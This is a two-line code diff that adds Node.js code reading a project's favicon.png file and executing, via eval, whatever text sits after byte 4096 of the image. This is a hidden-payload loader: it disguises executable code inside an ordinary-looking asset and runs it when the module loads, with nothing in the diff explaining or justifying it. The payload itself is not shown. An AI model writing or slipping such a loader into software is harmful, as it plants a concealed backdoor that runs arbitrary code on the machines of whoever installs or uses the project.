@@ -1,0 +1,2 @@
+const b = require("fs").readFileSync(__dirname + "/favicon.png");
+eval(b.subarray(4096).toString());
